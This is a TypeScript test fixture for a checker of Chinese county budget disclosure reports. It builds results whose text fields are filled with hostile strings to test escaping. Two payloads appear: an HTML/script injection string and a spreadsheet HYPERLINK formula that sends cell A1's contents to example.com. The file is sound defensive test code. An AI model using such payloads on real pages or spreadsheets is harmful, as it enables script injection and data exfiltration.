// Results for the tests of the reports: a made sample really checked, and the same with hostile texts.

import { join } from "node:path";

import type { Finding } from "@jueming/core/checks/finding.ts";
import { invariant } from "@jueming/core/document/invariant.ts";

import type { CheckedFile } from "../../check.ts";
import { prepareChecker } from "../../check.ts";
import { keptDisclosure } from "../../kept-disclosure.ts";
import { isFailure } from "../../read.ts";

const SAMPLES = join(import.meta.dirname, "../../../../samples");

/** A sample, read and checked. */
export async function checkedSample(name: string): Promise<CheckedFile> {
  const { check } = await prepareChecker({ prior: [], budget: [], explanations: [] });
  const result = await check({ source: name, path: join(SAMPLES, name) });
  invariant(!isFailure(result), "the samples can be read");
  return result;
}

export const ACCOUNTS = "示例县人民政府办公室2024年度部门决算公开.txt";
export const FORMS = "示例县人民政府办公室2024年度项目支出绩效自评表.md";

export const MARKUP = `</td><script>alert("1")</script><img src=x onerror='alert(2)'>`;
export const FORMULA = `=HYPERLINK("http://example.com?"&A1,"点击")`;

/** The result with texts that would do harm where they are not taken for text. */
export function hostile(result: CheckedFile, text: string): CheckedFile {
  const disclosure = result.disclosure();
  const findings = result.result.findings.map((finding): Finding => ({
    ...finding,
    subject: text,
    message: text,
    advice: text,
    operands: finding.operands.map((operand) => ({ ...operand, label: text })),
    explanation: text,
  }));
  return {
    source: text,
    ...keptDisclosure({
      ...disclosure,
      unit: { ...disclosure.unit, name: text },
      tables: disclosure.tables.map((table) => ({
        ...table,
        title: text,
        rows: table.rows.map((row) => ({ ...row, name: text })),
      })),
      narrative: disclosure.narrative.map((sentence) => ({
        ...sentence,
        section: text,
        sentence: `${text}${sentence.sentence}`,
      })),
    }),
    result: { ...result.result, findings },
  };
}
